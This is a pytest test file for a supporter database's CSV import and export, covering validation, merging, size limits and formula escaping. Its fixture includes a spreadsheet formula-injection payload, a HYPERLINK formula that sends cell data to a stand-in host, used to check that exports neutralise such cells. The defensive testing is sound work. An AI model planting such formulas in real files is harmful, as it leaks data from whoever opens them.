"""CSV import (REST and `rallypoint import`) and export."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import func
from sqlmodel import select

from gateway.cli import main
from storage.models import Supporter, SupporterAddress, SupporterTag, TeamMembership
from tests.conftest import bearer, new_key

API = "/api/v1"


async def upload(client: httpx.AsyncClient, data: bytes) -> httpx.Response:
    return await client.post(
        f"{API}/supporters/import", files={"file": ("people.csv", data, "text/csv")}
    )


def counts(summary: Any) -> tuple[int, int, list[Any]]:
    return summary["created"], summary["updated"], summary["rejected"]


async def count(client: httpx.AsyncClient, model: Any) -> int:
    async with client.ctx.sessions() as session:  # type: ignore[attr-defined]
        return int((await session.exec(select(func.count()).select_from(model))).one())


async def test_import_keeps_good_rows_and_rejects_bad_ones(client: httpx.AsyncClient) -> None:
    await client.post(f"{API}/teams", json={"name": "Nairobi"})
    existing = await client.post(
        f"{API}/supporters",
        json={"name": "Owner", "addresses": [{"channel": "whatsapp", "address": "+14155550199"}]},
    )
    assert existing.status_code == 201
    data = (
        "\ufefftags,name,phone,email,teams,timezone,preferred_channels,whatsapp,language\n"
        "driver|canvasser,Amina,(415) 555-0100,AMINA@example.org,Nairobi,Africa/Nairobi,"
        "sms|email,,sw\n"
        ",Bad Phone,12,,,,,,\n"  # row 2: invalid phone
        ",Bad Zone,+14155550101,,,Mars/Base,,,\n"  # row 3: unknown time zone
        ",Taken,+14155550199,amina@example.org,,,,,\n"  # row 4: Amina's email, Owner's phone
        ",No Team,+14155550102,,Atlantis,,,,\n"  # row 5: unknown team
        "\n"  # blank line: skipped, still counted
        ",,+14155550103,,,,,,\n"  # row 7: no name
        ",Pigeon,+14155550104,,,,pigeon,,\n"  # row 8: unknown channel
        ",Ben,,,,,,+14155550105,\n"  # row 9: good
    ).encode()
    response = await upload(client, data)
    assert response.status_code == 200, response.text
    summary = response.json()
    assert summary["created"] == 2
    assert summary["updated"] == 0
    rejected = {r["row"]: r["reason"] for r in summary["rejected"]}
    assert sorted(rejected) == [2, 3, 4, 5, 7, 8]
    assert rejected[2].startswith("phone:")
    assert rejected[3].startswith("timezone:")
    # Amina's email repeats row 1: reported as that (a file's own duplicate), not merged.
    assert rejected[4] == "duplicate of row 1: the same email"
    assert rejected[5].startswith("teams:")
    assert rejected[7].startswith("name:")
    assert rejected[8].startswith("preferred_channels:")
    # Bad rows wrote nothing: only Owner, Amina and Ben exist.
    assert await count(client, Supporter) == 3
    assert await count(client, SupporterAddress) == 4
    async with client.ctx.sessions() as session:  # type: ignore[attr-defined]
        names = (await session.exec(select(Supporter.name).order_by(Supporter.id))).all()
        assert names == ["Owner", "Amina", "Ben"]
    listed = await client.get(f"{API}/supporters", params={"q": "Amina"})
    amina = listed.json()["items"][0]
    assert amina["source"] == "import"
    assert amina["tags"] == ["canvasser", "driver"]
    assert amina["teams"][0]["name"] == "Nairobi"
    assert amina["preferred_channels"] == ["sms", "email"]
    assert amina["language"] == "sw"
    assert {(a["channel"], a["address"]) for a in amina["addresses"]} == {
        ("sms", "+14155550100"),
        ("email", "amina@example.org"),
    }


async def test_import_updates_a_supporter_matched_by_any_address(
    client: httpx.AsyncClient,
) -> None:
    created = await client.post(
        f"{API}/supporters",
        json={
            "name": "Old Name",
            "addresses": [{"channel": "sms", "address": "+14155550100"}],
            "tags": ["old"],
        },
    )
    supporter_id = created.json()["id"]
    # The same number given as whatsapp matches the sms supporter: one number, one supporter.
    data = b"name,whatsapp,email,tags\nNew Name,+1 415 555 0100,new@example.org,fresh\n"
    response = await upload(client, data)
    assert counts(response.json()) == (0, 1, [])
    updated = (await client.get(f"{API}/supporters/{supporter_id}")).json()
    assert updated["name"] == "New Name"
    assert updated["tags"] == ["fresh"]
    assert {(a["channel"], a["address"]) for a in updated["addresses"]} == {
        ("sms", "+14155550100"),
        ("whatsapp", "+14155550100"),
        ("email", "new@example.org"),
    }
    assert await count(client, Supporter) == 1
    # Importing the same file again changes nothing more.
    again = await upload(client, data)
    assert counts(again.json()) == (0, 1, [])
    assert await count(client, SupporterAddress) == 3


async def test_addresses_of_two_supporters_in_one_row_are_rejected(
    client: httpx.AsyncClient,
) -> None:
    for name, email in [("A", "a@example.org"), ("B", "b@example.org")]:
        await client.post(
            f"{API}/supporters",
            json={"name": name, "addresses": [{"channel": "email", "address": email}]},
        )
    response = await upload(client, b"name,email,phone\nA,a@example.org,\nX,,\n")
    assert response.json()["updated"] == 1
    assert response.json()["rejected"][0]["row"] == 2
    assert "no address" in response.json()["rejected"][0]["reason"]
    a_id = (await client.get(f"{API}/supporters", params={"q": "a@"})).json()["items"][0]["id"]
    await client.patch(
        f"{API}/supporters/{a_id}",
        json={
            "addresses": [
                {"channel": "email", "address": "a@example.org"},
                {"channel": "sms", "address": "+14155550100"},
            ]
        },
    )
    response = await upload(client, b"name,email,phone\nMix,b@example.org,+14155550100\n")
    summary = response.json()
    assert summary["created"] == 0 and summary["updated"] == 0
    assert "409" in summary["rejected"][0]["reason"]


@pytest.mark.parametrize(
    ("data", "needle"),
    [
        (b"name,phone\nJos\xe9,+14155550100\n", "UTF-8"),
        (b"", "empty"),
        (b"phone\n+14155550100\n", "name"),
    ],
)
async def test_unusable_files_are_422_and_write_nothing(
    client: httpx.AsyncClient, data: bytes, needle: str
) -> None:
    response = await upload(client, data)
    assert response.status_code == 422
    assert needle in response.json()["detail"]
    assert await count(client, Supporter) == 0


async def test_team_lead_import_lands_in_their_team(client: httpx.AsyncClient) -> None:
    team = (await client.post(f"{API}/teams", json={"name": "North"})).json()
    await client.post(f"{API}/teams", json={"name": "South"})
    lead = bearer(await new_key(client.ctx, "team_lead", team["id"]))  # type: ignore[attr-defined]
    response = await client.post(
        f"{API}/supporters/import",
        files={"file": ("x.csv", b"name,email,teams\nA,a@example.org,\nB,b@example.org,South\n")},
        headers=lead,
    )
    summary = response.json()
    assert summary["created"] == 1
    assert summary["rejected"][0]["row"] == 2 and "403" in summary["rejected"][0]["reason"]
    assert await count(client, TeamMembership) == 1


async def test_export_round_trips_through_import(client: httpx.AsyncClient) -> None:
    await client.post(f"{API}/teams", json={"name": "Nairobi"})
    await upload(
        client,
        b"name,phone,email,tags,teams,timezone\n"
        b'"Otieno, Amina",+14155550100,a@example.org,x|y,Nairobi,Africa/Nairobi\n',
    )
    export = await client.get(f"{API}/supporters/export")
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == "Otieno, Amina"
    assert row["phone"] == "+14155550100"
    assert row["tags"] == "x|y"
    assert row["teams"] == "Nairobi"
    assert row["opted_out"] == "false"
    again = await upload(client, export.content)
    assert counts(again.json()) == (0, 1, [])
    assert await count(client, SupporterTag) == 2


def test_cli_import_prints_the_summary(
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes(b"name,phone\nAmina,+14155550100\nBad,1\n")
    monkeypatch.setenv("RALLYPOINT_DATABASE_URL", database_url)
    monkeypatch.setenv("RALLYPOINT_DEFAULT_REGION", "US")
    monkeypatch.chdir(tmp_path)  # no stray .env
    assert main(["import", str(path)]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["created"] == 1
    assert [r["row"] for r in summary["rejected"]] == [2]
    assert main(["import", str(tmp_path / "missing.csv")]) == 2


MakeClient = Callable[..., Awaitable[httpx.AsyncClient]]


async def limited_client(make_client: MakeClient, limit: int) -> httpx.AsyncClient:
    client = await make_client(max_import_bytes=limit)
    client.headers.update(bearer(await new_key(client.ctx)))  # type: ignore[attr-defined]
    return client


def people(rows: int) -> bytes:
    lines = ["name,email"] + [f"Person {i},person{i}@example.org" for i in range(rows)]
    return ("\n".join(lines) + "\n").encode()


def multipart(client: httpx.AsyncClient, data: bytes) -> tuple[bytes, str]:
    """The exact request body (and its content type) `upload` sends for `data`."""
    request = client.build_request(
        "POST", f"{API}/supporters/import", files={"file": ("people.csv", data, "text/csv")}
    )
    return request.read(), request.headers["content-type"]


async def test_import_over_the_size_limit_is_413_and_writes_nothing(
    make_client: MakeClient,
) -> None:
    data = people(20)
    probe = await limited_client(make_client, 10_485_760)
    body, _ = multipart(probe, data)
    over = await limited_client(make_client, len(body) - 1)
    response = await upload(over, data)
    assert response.status_code == 413
    assert "RALLYPOINT_MAX_IMPORT_BYTES" in response.json()["detail"]
    assert str(len(body) - 1) in response.json()["detail"]
    assert await count(over, Supporter) == 0
    # A body of exactly the limit is accepted.
    exact = await limited_client(make_client, len(body))
    response = await upload(exact, data)
    assert response.status_code == 200, response.text
    assert response.json()["created"] == 20
    assert await count(exact, Supporter) == 20


async def test_streamed_import_stops_reading_once_past_the_limit(
    make_client: MakeClient,
) -> None:
    """No Content-Length: the body is read chunk by chunk and refused as soon as it passes
    the limit; the rest is never read."""
    limit, chunk = 10_000, 1_000
    client = await limited_client(make_client, limit)
    body, content_type = multipart(client, people(2_000))
    chunks = [body[i : i + chunk] for i in range(0, len(body), chunk)]
    assert len(chunks) > 3 * limit // chunk
    sent = 0

    async def stream() -> AsyncIterator[bytes]:
        nonlocal sent
        for piece in chunks:
            sent += 1
            yield piece

    response = await client.post(
        f"{API}/supporters/import", content=stream(), headers={"Content-Type": content_type}
    )
    assert response.status_code == 413
    assert "RALLYPOINT_MAX_IMPORT_BYTES" in response.json()["detail"]
    assert sent <= limit // chunk + 1
    assert await count(client, Supporter) == 0


async def test_streamed_import_under_the_limit_imports(make_client: MakeClient) -> None:
    client = await limited_client(make_client, 10_000)
    body, content_type = multipart(client, people(5))

    async def stream() -> AsyncIterator[bytes]:
        for i in range(0, len(body), 100):
            yield body[i : i + 100]

    response = await client.post(
        f"{API}/supporters/import", content=stream(), headers={"Content-Type": content_type}
    )
    assert response.status_code == 200, response.text
    assert response.json()["created"] == 5


async def test_declared_length_over_the_limit_is_refused_unread(make_client: MakeClient) -> None:
    client = await limited_client(make_client, 10_000)
    body, content_type = multipart(client, people(2_000))
    sent = 0

    async def stream() -> AsyncIterator[bytes]:
        nonlocal sent
        for i in range(0, len(body), 1_000):
            sent += 1
            yield body[i : i + 1_000]

    response = await client.post(
        f"{API}/supporters/import",
        content=stream(),
        headers={"Content-Type": content_type, "Content-Length": str(len(body))},
    )
    assert response.status_code == 413
    assert sent == 0
    assert await count(client, Supporter) == 0


FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "-Ana-",
    "@amina",
    "+1 call me",
    "'=already quoted",
    "Plain Name",
]


async def formula_supporters(client: httpx.AsyncClient) -> list[dict[str, Any]]:
    """Supporters whose text starts like a formula, with phone, whatsapp, telegram group and
    email addresses that start with + or -; as GET /supporters answers them."""
    assert (await client.post(f"{API}/teams", json={"name": "@Ops"})).status_code == 201
    for i, name in enumerate(FORMULA_NAMES):
        response = await client.post(
            f"{API}/supporters",
            json={
                "name": name,
                "addresses": [
                    {"channel": "sms", "address": f"+1415555{i:04d}"},
                    {"channel": "whatsapp", "address": f"+1415555{i:04d}"},
                    {"channel": "telegram", "address": f"-100123456{i}"},
                    {"channel": "email", "address": f"-dash{i}@example.org"},
                ],
                "tags": ["=1+1", "plain"],
                "teams": ["@Ops"],
                "language": "-",
            },
        )
        assert response.status_code == 201, response.text
    return await listed_supporters(client)


async def listed_supporters(client: httpx.AsyncClient) -> list[dict[str, Any]]:
    listed = await client.get(f"{API}/supporters", params={"limit": 100})
    return sorted(listed.json()["items"], key=lambda s: s["id"])


async def test_export_escapes_formulas_but_not_phone_numbers(client: httpx.AsyncClient) -> None:
    await formula_supporters(client)
    export = await client.get(f"{API}/supporters/export")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["name"] for r in rows] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "'-Ana-",
        "'@amina",
        "'+1 call me",
        "''=already quoted",  # one more quote: the import drops exactly one
        "Plain Name",
    ]
    first = rows[0]
    # E.164 numbers and Telegram chat ids are numbers to a spreadsheet: kept as they are.
    assert (first["phone"], first["whatsapp"], first["telegram"]) == (
        "+14155550000",
        "+14155550000",
        "-1001234560",
    )
    # An email address may start like a formula: escaped like any text.
    assert first["email"] == "'-dash0@example.org"
    assert (first["tags"], first["teams"], first["language"]) == ("'=1+1|plain", "'@Ops", "'-")
    numbers = {"phone", "whatsapp", "telegram"}
    for row in rows:
        for column, cell in row.items():
            if column not in numbers:
                assert not cell or cell[0] not in "=+-@\t\r", (column, cell)


async def test_exported_formulas_re_import_unchanged(client: httpx.AsyncClient) -> None:
    before = await formula_supporters(client)
    export = await client.get(f"{API}/supporters/export")
    again = await upload(client, export.content)
    assert counts(again.json()) == (0, len(FORMULA_NAMES), [])
    after = await listed_supporters(client)
    assert [s["name"] for s in after] == FORMULA_NAMES
    assert after == before


async def test_cli_import_of_an_export_changes_nothing(
    client: httpx.AsyncClient,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = await formula_supporters(client)
    path = tmp_path / "supporters.csv"
    path.write_bytes((await client.get(f"{API}/supporters/export")).content)
    monkeypatch.setenv("RALLYPOINT_DATABASE_URL", database_url)
    monkeypatch.setenv("RALLYPOINT_DEFAULT_REGION", "US")
    monkeypatch.chdir(tmp_path)  # no stray .env
    # `rallypoint import` runs its own event loop: off this test's loop, on a thread.
    assert await asyncio.to_thread(main, ["import", str(path)]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert counts(summary) == (0, len(FORMULA_NAMES), [])
    # The CLI runs on the real clock: everything but the time of the (empty) update stays.
    after = await listed_supporters(client)
    assert [s | {"updated_at": None} for s in after] == [s | {"updated_at": None} for s in before]
